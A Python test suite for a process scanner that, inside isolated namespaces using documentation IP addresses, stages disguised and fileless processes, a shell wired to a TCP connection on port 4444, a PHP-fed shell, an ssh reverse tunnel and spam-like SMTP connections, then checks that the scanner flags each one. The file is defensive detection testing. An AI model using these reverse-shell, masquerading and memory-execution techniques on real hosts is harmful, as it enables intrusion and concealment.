#!/usr/bin/env python3
"""processes.py SCAN_PROCESSES: what is said of real, inert programs started for it; prints TAP.

All runs in namespaces of its own, in which nothing leads out: addresses of documentation networks
lie on the loopback device. Programs are stopped by their ids.
"""

import contextlib
import ctypes
import json
import os
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.dont_write_bytecode = True
import tap  # noqa: E402
from tap import case  # noqa: E402

SCAN = os.path.abspath(sys.argv[1])
HERE, OUTSIDE = "192.0.2.10", ("203.0.113.25", "198.51.100.25", "198.51.100.26")
ACCUSES = 0.9
NOBODY = 65534

# Connects from HERE to each HOST:PORT of the arguments, says so, and waits to be stopped.
PYTHON_CLIENT = """
import socket, sys, time
held = [socket.create_connection((a.rsplit(":", 1)[0], int(a.rsplit(":", 1)[1])), 5, ("%s", 0))
        for a in sys.argv[1:]]
print("ready", flush=True)
time.sleep(600)
""" % HERE
PERL_CLIENT = """
use IO::Socket::INET;
$| = 1;
my @held = map { IO::Socket::INET->new(PeerAddr => $_, LocalAddr => "%s") or die "$_: $!" } @ARGV;
TITLE
print "ready\\n";
sleep 600;
""" % HERE

# --- the little world ---


def serve(host, port):
    """Takes connections and never says a word."""
    listener = socket.create_server((host, port), backlog=64)
    held = []

    def accept():
        while True:
            held.append(listener.accept()[0])

    threading.Thread(target=accept, daemon=True).start()
    return listener


def build_world():
    subprocess.run(["mount", "-t", "tmpfs", "none", "/opt"], check=True)
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    for address in (HERE, *OUTSIDE):
        subprocess.run(["ip", "address", "add", f"{address}/32", "dev", "lo"], check=True)
    for host in OUTSIDE:
        for port in (25, 587, 4444):
            serve(host, port)
    serve("127.0.0.1", 25)


@contextlib.contextmanager
def running(arguments, wait=True, **options):
    """A program, from its word that it is ready until it is stopped."""
    options.setdefault("stdin", subprocess.DEVNULL)
    options.setdefault("stdout", subprocess.PIPE)
    options.setdefault("stderr", subprocess.DEVNULL)
    with subprocess.Popen(arguments, **options) as program:
        try:
            if wait:
                assert select.select([program.stdout], [], [], 20)[0], f"{arguments} is not ready"
                assert program.stdout.readline() == b"ready\n", f"{arguments} failed"
            yield program
        finally:
            program.send_signal(signal.SIGKILL)


@contextlib.contextmanager
def folder(where=None):
    with tempfile.TemporaryDirectory(dir=where) as path:
        os.chmod(path, 0o755)
        yield path


def scan(**options):
    done = subprocess.run([SCAN], capture_output=True, text=True, timeout=60, check=False,
                          **options)
    assert done.returncode == 0, f"{done.returncode}: {done.stderr}"
    return json.loads(done.stdout)


def findings_of(program, found=None):
    """Those that speak of the program, first or alike."""
    return [one for one in (found or scan())["findings"]
            if f"Process {program.pid} of " in one["why"]]


def finding_of(program):
    found = scan()
    mine = findings_of(program, found)
    assert len(mine) == 1, f"{len(mine)} findings in {json.dumps(found, indent=1)}"
    return mine[0]


def require(finding, rule, is_accused, path=None, why=(), advice=()):
    assert finding["kind"] == "process", finding
    assert finding["rule"] == rule, finding
    assert (finding["confidence"] >= ACCUSES) == is_accused, finding
    assert path is None or finding["path"] == path, finding
    for word in why:
        assert word in finding["why"], f"'{word}' is not in {finding['why']}"
    for word in advice:
        assert word in finding["advice"], f"'{word}' is not in {finding['advice']}"


# --- forged names ---


@case
def forged_kernel_thread():
    """an interpreter as a thread of the kernel that talks to port 25 is accused"""
    with running(["[kworker/0:1]", "-c", PYTHON_CLIENT, f"{OUTSIDE[0]}:25"],
                 executable=sys.executable) as program:
        require(finding_of(program), "process-kernel-name", True, os.path.realpath(sys.executable),
                ["calls itself a thread of the kernel", f"connected to {OUTSIDE[0]}:25", "of root"],
                [f"kill -STOP {program.pid}", f"ls -l /proc/{program.pid}/exe"])


@case
def renamed_by_prctl():
    """a name set by prctl is seen although the command line is honest"""
    code = ("import ctypes\nctypes.CDLL(None).prctl(15, b'kswapd0', 0, 0, 0)\n" + PYTHON_CLIENT)
    with folder("/root") as path:
        script = f"{path}/run.py"
        with open(script, "w", encoding="ascii") as file:
            file.write(code)
        with running([sys.executable, script, f"{OUTSIDE[0]}:25"]) as program:
            require(finding_of(program), "process-kernel-name", True, script)


@case
def forged_daemon():
    """Perl that calls itself httpd and sends mail is accused, and quoted as it calls itself"""
    code = PERL_CLIENT.replace("TITLE", '$0 = "/usr/sbin/httpd -k start";')
    with running(["perl", "-e", code, f"{OUTSIDE[0]}:25"]) as program:
        finding = finding_of(program)
        require(finding, "process-forged-name", True, os.path.realpath(shutil.which("perl")))
        assert finding["text"].startswith("/usr/sbin/httpd -k start"), finding


@case
def forged_sshd():
    """Perl that calls itself sshd is a remark while it does nothing else"""
    with running(["sshd", "-e", '$| = 1; print "ready\\n"; sleep 600'],
                 executable=shutil.which("perl")) as program:
        require(finding_of(program), "process-forged-name", False)


# --- files ---


@case
def deleted_script():
    """a script deleted while it runs is named, and accused when it sends mail"""
    with folder("/tmp") as path:
        script = f"{path}/b.pl"
        with open(script, "w", encoding="ascii") as file:
            file.write(PERL_CLIENT.replace("TITLE", ""))
        with running(["perl", script, f"{OUTSIDE[0]}:25"]) as program:
            assert "deleted" not in finding_of(program)["why"]
            os.unlink(script)
            require(finding_of(program), "process-deleted-script", True, script,
                    ["runs a script that has since been deleted", "Interpreter: "])


@case
def deleted_program():
    """a program deleted from a temporary folder is named, with how to keep a copy of it"""
    with folder("/tmp") as path:
        copy = f"{path}/x"
        shutil.copy("/bin/sleep", copy)
        with running([copy, "600"], wait=False) as program:
            require(finding_of(program), "process-temporary", False, copy)
            os.unlink(copy)
            require(finding_of(program), "process-deleted-temporary", False, copy, [],
                    [f"cp /proc/{program.pid}/exe "])


@case
def file_called_deleted():
    """a file whose name ends with ' (deleted)' is still there"""
    with folder("/tmp") as path:
        copy = f"{path}/x (deleted)"
        shutil.copy("/bin/sleep", copy)
        with running([copy, "600"], wait=False) as program:
            require(finding_of(program), "process-temporary", False, copy)


@case
def upgraded_program():
    """a program of the system that an upgrade replaced is nothing to tell of"""
    copy = "/opt/x"  # on a file system of this test's own
    shutil.copy("/bin/sleep", copy)
    with running([copy, "600"], wait=False) as program:
        os.unlink(copy)
        require(finding_of(program), "process-deleted", False, copy)
        shutil.copy("/bin/sleep", copy)
        assert not findings_of(program)


@case
def memory_program():
    """a program that never was a file on disk is named"""
    code = ("import os\nfd = os.memfd_create('x')\n"
            "os.write(fd, open('/bin/sleep', 'rb').read())\n"
            "os.execve(f'/proc/self/fd/{fd}', ['x', '600'], {})")
    with running([sys.executable, "-c", code], wait=False) as program:
        deadline = time.monotonic() + 20
        while "memfd" not in os.readlink(f"/proc/{program.pid}/exe"):
            assert time.monotonic() < deadline
            time.sleep(0.05)
        require(finding_of(program), "process-memory-file", False, "/memfd:x",
                ["runs from memory"], [f"cp /proc/{program.pid}/exe "])


# --- shells and tunnels ---


@case
def shell_on_socket():
    """a shell whose input and output are a connection is accused"""
    with socket.create_connection((OUTSIDE[0], 4444), 5, (HERE, 0)) as link:
        with running(["sh"], wait=False, stdin=link, stdout=link) as program:
            require(finding_of(program), "process-shell-on-socket", True, None,
                    [f"connected to {OUTSIDE[0]}:4444", "runs no script"],
                    [f"ss -tnap | grep 'pid={program.pid},'"])


@case
def shell_by_php():
    """a shell that PHP feeds from its connection is seen, one that PHP merely runs is not"""
    code = """
        $link = %s;
        $shell = proc_open("COMMAND", [["pipe", "r"], ["pipe", "w"], ["pipe", "w"]], $pipes);
        usleep(300000);
        echo proc_get_status($shell)["pid"], "\\n";
        sleep(600);
    """ % (f"stream_socket_client('tcp://{OUTSIDE[0]}:4444', $no, $text, 5, 4, "
           f"stream_context_create(['socket' => ['bindto' => '{HERE}:0']]))")
    if not shutil.which("php"):
        print("# left out: PHP is not installed")
        return
    for command, rule in (("exec sh -i", "process-shell-by-parent"), ("sleep 600; :", None)):
        with running(["php", "-r", code.replace("COMMAND", command)], wait=False) as program:
            assert select.select([program.stdout], [], [], 20)[0]
            pid = int(program.stdout.readline())
            found = [one for one in scan()["findings"] if f"Process {pid} of " in one["why"]]
            assert [one["rule"] for one in found] == ([rule] if rule else []), found


@case
def shell_on_local_socket():
    """a shell on a socket that is no connection to elsewhere is let be"""
    first, second = socket.socketpair()
    with first, second, running(["sh"], wait=False, stdin=second, stdout=second) as program:
        assert not findings_of(program)


@case
def ssh_tunnel():
    """a real ssh with -R is a remark, one without is not"""
    options = ["-p", "4444", "-o", "BatchMode=yes", "-o", "UserKnownHostsFile=/dev/null",
               "-b", HERE, OUTSIDE[0]]
    with running(["ssh", "-N", "-R", "2222:localhost:22", *options], wait=False) as program:
        time.sleep(0.5)
        require(finding_of(program), "process-ssh-reverse", False, None, ["(-R)"])
    with running(["ssh", "-N", *options], wait=False) as program:
        time.sleep(0.5)
        assert not findings_of(program)


@case
def hidden_listener():
    """a listener that runs from a temporary folder is seen with its port"""
    with folder("/tmp") as path:
        script = f"{path}/l.py"
        with open(script, "w", encoding="ascii") as file:
            file.write("import socket, time\nheld = socket.create_server(('', 7777))\n"
                       "print('ready', flush=True)\ntime.sleep(600)\n")
        with running([sys.executable, script]) as program:
            finding = finding_of(program)
            require(finding, "process-temporary-script", False, script,
                    ["waits for connections from outside", "listens on 0.0.0.0:7777"])


# --- mail ---


@case
def mail_to_many():
    """connections to mail servers of many are told from one to a relay"""
    with running([sys.executable, "-c", PYTHON_CLIENT, *(f"{host}:25" for host in OUTSIDE)]) \
            as program:
        require(finding_of(program), "process-mail-many", True,
                None, ["many recipients", "code that opens connections"])
    with folder("/root") as path:
        script = f"{path}/news.py"
        with open(script, "w", encoding="ascii") as file:
            file.write(PYTHON_CLIENT)
        with running([sys.executable, script, f"{OUTSIDE[0]}:587"]) as program:
            require(finding_of(program), "process-mail-relay", False, script,
                    [f"connected to {OUTSIDE[0]}:587"])


@case
def mail_to_own_server():
    """a script that hands its mail to this host's own server is let be"""
    code = PYTHON_CLIENT.replace(f'("{HERE}", 0)', "None")
    assert code != PYTHON_CLIENT
    with folder("/root") as path:
        script = f"{path}/news.py"
        with open(script, "w", encoding="ascii") as file:
            file.write(code)
        with running([sys.executable, script, "127.0.0.1:25", f"{OUTSIDE[0]}:25"]) as program:
            assert not findings_of(program)


POSTFIX = f"""\
compatibility_level = 3.6
myhostname = web7.example
mydestination =
inet_interfaces = 127.0.0.1
inet_protocols = ipv4
mynetworks = 127.0.0.0/8
maillog_file = /var/log/postfix-test.log
alias_maps =
alias_database =
smtp_bind_address = {HERE}
smtp_dns_support_level = disabled
default_transport = smtp:[{OUTSIDE[0]}]:25
"""

# Folders of file systems of this test's own; what is in /etc/postfix is kept.
START_POSTFIX = """
set -e
cp -a /etc/postfix /opt/postfix
for one in /etc/postfix /var/spool/postfix /var/lib/postfix /var/log; do
    mount -t tmpfs none $one
done
cp -a /opt/postfix/. /etc/postfix
cp /opt/main.cf /etc/postfix/main.cf
cp /usr/share/postfix/master.cf.dist /etc/postfix/master.cf
postconf -F '*/*/chroot = n'
postconf -MX smtp/inet
chown postfix:postfix /var/lib/postfix
exec postfix start-fg
"""


def processes_of(exe):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/{pid}/exe") == exe:
                found.append(pid)
    return found


@case
def real_postfix():
    """a real Postfix that delivers to port 25 is let be"""
    client = "/usr/lib/postfix/sbin/smtp"
    if not os.path.exists(client) or not os.path.exists("/usr/share/postfix/master.cf.dist"):
        print("# left out: Postfix is not installed")
        return
    with open("/opt/main.cf", "w", encoding="ascii") as file:
        file.write(POSTFIX)
    mail = b"Subject: x\n\nx\n"
    with running(["sh", "-c", START_POSTFIX], wait=False) as program:
        deadline = time.monotonic() + 60
        while not os.path.exists("/var/spool/postfix/pid/master.pid"):
            assert time.monotonic() < deadline and program.poll() is None, "Postfix does not start"
            time.sleep(0.2)
        subprocess.run(["sendmail", "-f", "anna@web7.example", "ben@shop.example"], input=mail,
                       check=True, timeout=30)
        while not processes_of(client):
            assert time.monotonic() < deadline, "Postfix does not deliver"
            time.sleep(0.2)
        time.sleep(1)
        with open("/proc/net/tcp", encoding="ascii") as file:
            assert ":0019 01" in file.read(), "Postfix is not connected"
        found = scan()
        assert not [one for one in found["findings"] if "postfix" in one["path"]], found
        program.send_signal(signal.SIGTERM)
        program.wait(30)


@case
def false_mail_server():
    """a program is no mail server for being called one"""
    with folder("/root") as path:
        copy = f"{path}/exim4"
        shutil.copy(os.path.realpath(shutil.which("perl")), copy)
        with running([copy, "-e", PERL_CLIENT.replace("TITLE", ""),
                      *(f"{host}:25" for host in OUTSIDE)]) as program:
            os.chmod(copy, 0o777)
            require(finding_of(program), "process-mail-many", False, copy)


@case
def workers():
    """workers of one program are one finding"""
    with contextlib.ExitStack() as stack, folder("/tmp") as path:
        copy = f"{path}/x"
        shutil.copy("/bin/sleep", copy)
        programs = [stack.enter_context(running([copy, "600"], wait=False)) for _ in range(5)]
        found = [one for one in scan()["findings"] if one["path"] == copy]
        pids = [str(program.pid) for program in programs]
        assert len(found) == 1, found
        assert f"Process {pids[0]} of root" in found[0]["why"], found
        assert f"Alike: processes {', '.join(pids[1:])}." in found[0]["why"], found


# --- what the reader can and cannot do ---


@case
def other_network():
    """sockets of another network namespace are seen"""
    code = ("import ctypes, socket, subprocess, time\n"
            "assert ctypes.CDLL(None).unshare(0x40000000) == 0\n"
            "subprocess.run(['ip', 'link', 'set', 'lo', 'up'], check=True)\n"
            "for a in ('%s', '%s'):\n"
            "    subprocess.run(['ip', 'address', 'add', a + '/32', 'dev', 'lo'], check=True)\n"
            "l = socket.create_server(('%s', 25))\n"
            "c = socket.create_connection(('%s', 25), 5, ('%s', 0))\n"
            "print('ready', flush=True)\ntime.sleep(600)\n"
            % (HERE, OUTSIDE[0], OUTSIDE[0], OUTSIDE[0], HERE))
    before = scan()
    with folder("/root") as path:
        script = f"{path}/c.py"
        with open(script, "w", encoding="ascii") as file:
            file.write(code)
        with running([sys.executable, script]) as program:
            after = scan()
            require(finding_of(program), "process-mail-direct", False, script,
                    [f"connected to {OUTSIDE[0]}:25"])
    assert after["namespaces"] == before["namespaces"] + 1, (before, after)
    assert after["namespaces_unread"] == 0, after


@case
def file_system_that_never_answers():
    """a path into a file system whose server is silent keeps nobody waiting"""
    if not os.path.exists("/dev/fuse"):
        print("# no /dev/fuse: a temporary file system takes its place, which always answers")
    with folder("/root") as path:
        script = f"{path}/m/x/b.sh"
        os.makedirs(os.path.dirname(script))
        with open(script, "w", encoding="ascii") as file:
            file.write("echo ready; sleep 600; :\n")
        with running(["sh", script]) as program, silent_mount(f"{path}/m"):
            assert not findings_of(program)


@contextlib.contextmanager
def silent_mount(path):
    fuse = os.open("/dev/fuse", os.O_RDWR) if os.path.exists("/dev/fuse") else -1
    kind, options = (b"fuse", f"fd={fuse},rootmode=40000,user_id=0,group_id=0") \
        if fuse >= 0 else (b"tmpfs", "")
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        assert libc.mount(b"x", path.encode(), kind, 0, options.encode()) == 0, ctypes.get_errno()
        yield
    finally:
        if fuse >= 0:
            os.close(fuse)
        assert libc.umount2(path.encode(), 2) == 0, ctypes.get_errno()


@case
def without_root():
    """without root it says that it could not read the programs of others"""
    found = scan(user=NOBODY, group=NOBODY, extra_groups=[])
    assert found["is_root"] is False and found["unread"] > 0, found
    found = scan()
    assert found["is_root"] is True and found["unread"] == 0, found


@case
def quiet_host():
    """a host with nothing but honest programs has no findings"""
    with running(["sleep", "600"], wait=False), running(["sh", "-c", "sleep 600; :"], wait=False):
        found = scan()
    # Of this test itself, a script in a folder that may be anywhere, nothing is known.
    rest = [one for one in found["findings"] if os.path.basename(__file__) not in one["text"]]
    assert rest == [], rest
    assert found["processes"] >= 3, found


@case
def crowd_that_comes_and_goes():
    """processes that end while they are read are counted, and nothing is said of them"""
    with running(["sh", "-c", "echo ready; while :; do sleep 0.001; done"]):
        for _ in range(20):
            found = scan()
            assert not [one for one in found["findings"] if "sleep" in one["path"]], found


def enter():
    """Runs the test anew, in namespaces of its own; skips where that is not allowed."""
    inside = ["unshare", "--net", "--pid", "--fork", "--mount-proc", "--kill-child"]
    if subprocess.run([*inside, "true"], check=False, capture_output=True).returncode != 0:
        print("1..0 # SKIP needs root and namespaces")
        return 0
    return subprocess.run([*inside, sys.executable, *sys.argv, "--inside"],
                          check=False).returncode


def main():
    if "--inside" not in sys.argv:
        return enter()
    build_world()
    return tap.run(tap.CASES)


if __name__ == "__main__":
    sys.exit(main())
